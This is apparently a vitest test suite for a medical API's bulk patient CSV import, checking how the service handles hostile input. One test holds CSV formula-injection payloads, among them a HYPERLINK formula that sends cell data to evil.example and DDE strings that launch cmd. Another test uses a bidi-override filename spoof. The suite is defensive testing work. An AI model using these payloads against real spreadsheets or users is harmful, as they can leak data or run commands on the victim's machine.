import { expect } from 'vitest';
import type { HostSpecOptions } from '../host.suite.js';
import { withHost } from '../host.suite.js';
import { AccountApi, HEADER, personRow, SAMPLE_ADDRESS } from '../support/api.js';
import type { HostDriver } from '../support/driver.js';

const FORMULA_START = /^[=+\-@\t\r]/;

async function freshAccount(host: HostDriver): Promise<AccountApi> {
  const api = await AccountApi.create(host, 'Hostile Input Clinic');
  await api.createFacility();
  return api;
}

/** Start, upload: the upload's response and the request's final status after the host settles. */
async function tryImport(api: AccountApi, body: string | Uint8Array) {
  const started = await api.startBulk();
  expect(started.status, started.text).toBe(200);
  const uploaded = await api.upload(started.body.uploadUrl, body);
  await api.host.settle();
  const status = await api.bulkStatus(started.body.requestId);
  expect(status.status, status.text).toBe(200);
  return { uploaded, status: status.body };
}

export function defineBulkHostileGroup({ describe, test, makeHost }: HostSpecOptions): void {
  describe('bulk patient create: hostile CSV', () => {
    test('formula cells: the result CSV shows each with a leading apostrophe; names starting like a formula are refused; other fields are stored as uploaded', async () => {
      await withHost(makeHost, async (host) => {
        const api = await freshAccount(host);
        const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+cmd', "-2+3+cmd|' /C calc'!A0"];
        const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
        const lines = [
          // Valid rows whose notes, externalId and address line look like formulas: imported, shown marked.
          ...attacks.map((attack, i) => `${personRow(i, { externalId: attack.replace(/[",]/g, '') })},${quote(attack)}`),
          // The same in a name: refused, with the reason for a person fixing the sheet.
          `${personRow(10, { firstName: quote(attacks[0]!) })},ok`,
          `${personRow(11, { lastName: '-Smith' })},ok`,
        ];
        const csv = [`${HEADER},notes`, ...lines].join('\n') + '\n';
        const { uploaded, status } = await tryImport(api, csv);
        expect(uploaded.status, uploaded.text).toBe(200);
        expect(status).toMatchObject({ status: 'completed', total: 6, succeeded: 4, failed: 2 });
        const rows = await api.resultRows(status);
        for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(FORMULA_START);
        attacks.forEach((attack, i) => {
          expect(rows[i + 1]!.at(-4)).toBe(`'${attack}`);
          expect(rows[i + 1]![0]).toBe(`'${attack.replace(/[",]/g, '')}`);
          expect(rows[i + 1]!.at(-2)).toBe('succeeded');
        });
        expect(rows[5]!.slice(-2)).toEqual(['failed', 'firstName: must start with a letter, not =, +, - or @ (a spreadsheet would run the cell as a formula)']);
        expect(rows[6]!.slice(-2)).toEqual(['failed', 'lastName: must start with a letter, not =, +, - or @ (a spreadsheet would run the cell as a formula)']);
        // What was validated and stored is what was uploaded, not the marked text.
        const stored = await api.call('GET', `/medical/v1/patient/${rows[1]!.at(-3)}`);
        expect(stored.status, stored.text).toBe(200);
        expect(stored.body.externalId).toBe(attacks[0]!.replace(/[",]/g, ''));
      });
    });

    test('bidi control characters in a name are refused by the CSV import and the JSON API alike', async () => {
      await withHost(makeHost, async (host) => {
        const api = await freshAccount(host);
        const { status } = await tryImport(api, [HEADER, personRow(1, { lastName: 'Doe\u202egnp.exe' })].join('\n'));
        expect(status).toMatchObject({ status: 'completed', failed: 1 });
        expect((await api.resultRows(status))[1]!.at(-1)).toMatch(/^lastName: must not contain invisible text-direction marks/);
        const json = await api.call('POST', '/medical/v1/patient', {
          body: { firstName: 'Jane', lastName: 'Doe\u202egnp.exe', dob: '1980-01-15', genderAtBirth: 'F', address: SAMPLE_ADDRESS },
        });
        expect(json.status, json.text).toBe(400);
        expect(json.body.detail).toMatch(/lastName: must not contain invisible text-direction marks/);
      });
    });

    test('the same rows as LF, CRLF and CR-only (old spreadsheet tools for the Mac) files give the same outcomes', async () => {
      await withHost(makeHost, async (host) => {
        const rows = [personRow(1), personRow(2, { dob: '1980-02-30' }), 'ext-ann,"Ann\rMarie",Lee,1970-01-01,F,1 Main St,Springfield,IL,62701,,,', personRow(3)];
        const outcomes: string[][][] = [];
        for (const eol of ['\n', '\r\n', '\r']) {
          // A fresh account each time: the outcomes (created, not updated) are comparable.
          const api = await freshAccount(host);
          const text = [HEADER, ...rows].join(eol) + eol;
          const { status } = await tryImport(api, text);
          expect(status, eol === '\r' ? 'CR' : JSON.stringify(eol)).toMatchObject({ status: 'completed', total: 4, succeeded: 3, failed: 1 });
          outcomes.push((await api.resultRows(status)).map((row) => [...row.slice(0, -3), ...row.slice(-2)]));
        }
        expect(outcomes[1]).toEqual(outcomes[0]);
        expect(outcomes[2]).toEqual(outcomes[0]);
        // The CR inside the quoted first name is content: the result repeats it.
        expect(outcomes[0]![3]![1]).toBe('Ann\rMarie');
      });
    });

    test('a header naming a column twice fails the request with a reason naming it; an unknown column named twice too (the result CSV would have two identical headers)', async () => {
      await withHost(makeHost, async (host) => {
        const api = await freshAccount(host);
        for (const [header, reason] of [
          [`${HEADER},FirstName `, `The header names the column "firstName" twice (columns 2 and 13); keep one column of each name`],
          [`${HEADER},notes,Notes`, `The header names the column "notes" twice (columns 13 and 14); keep one column of each name`],
        ] as const) {
          const { uploaded, status } = await tryImport(api, `${header}\n${personRow(1)},x,y\n`);
          expect(uploaded.status, uploaded.text).toBe(400);
          expect(uploaded.body).toMatchObject({ code: 'CSV_INVALID', detail: reason });
          expect(status).toMatchObject({ status: 'failed', reason });
        }
        expect(await api.listAllPatients()).toEqual([]);
      });
    });

    test('a 201-character first name is refused by the CSV import and the JSON API, naming the same limit', async () => {
      await withHost(makeHost, async (host) => {
        const api = await freshAccount(host);
        const long = 'A'.repeat(201);
        const { status } = await tryImport(api, [HEADER, personRow(1, { firstName: long })].join('\n'));
        expect((await api.resultRows(status))[1]!.at(-1)).toBe('firstName: must be at most 200 characters');
        const json = await api.call('POST', '/medical/v1/patient', {
          body: { firstName: long, lastName: 'Doe', dob: '1980-01-15', genderAtBirth: 'F', address: SAMPLE_ADDRESS },
        });
        expect(json.status, json.text).toBe(400);
        expect(json.body.detail).toContain('firstName: must be at most 200 characters');
      });
    });

    test('control characters: one in a cell fails that row naming the column; NUL anywhere, or a binary file, fails the request with a reason, never a 5xx', async () => {
      await withHost(makeHost, async (host) => {
        const api = await freshAccount(host);
        const { status } = await tryImport(api, [HEADER, personRow(1), personRow(2).replace('Springfield', 'Spring\u0001field'), personRow(3, { lastName: 'Do\u007fe' })].join('\n'));
        expect(status).toMatchObject({ status: 'completed', succeeded: 1, failed: 2 });
        const rows = await api.resultRows(status);
        expect(rows[2]!.at(-1)).toBe('city-1: must be one line of visible text: no line breaks, tabs or other control characters');
        expect(rows[3]!.at(-1)).toMatch(/^lastName: must not contain control characters/);

        const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x01, 0x00]);
        const nul = new TextEncoder().encode([HEADER, personRow(1).replace('Springfield', 'Spring\u0000field')].join('\n'));
        const utf16 = new Uint8Array([0xff, 0xfe, ...[...`${HEADER}\n${personRow(1)}\n`].flatMap((c) => [c.charCodeAt(0), 0])]);
        let seed = 7;
        const random = new Uint8Array(4096).map(() => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) >> 23);
        for (const body of [png, nul, utf16, random]) {
          const { uploaded, status: failed } = await tryImport(api, body);
          expect(uploaded.status, uploaded.text).toBe(400);
          expect(uploaded.body.code).toBe('CSV_INVALID');
          expect(failed).toMatchObject({ status: 'failed', reason: uploaded.body.detail });
        }
        expect(await api.listAllPatients()).toHaveLength(1);
      });
    });
  });
}
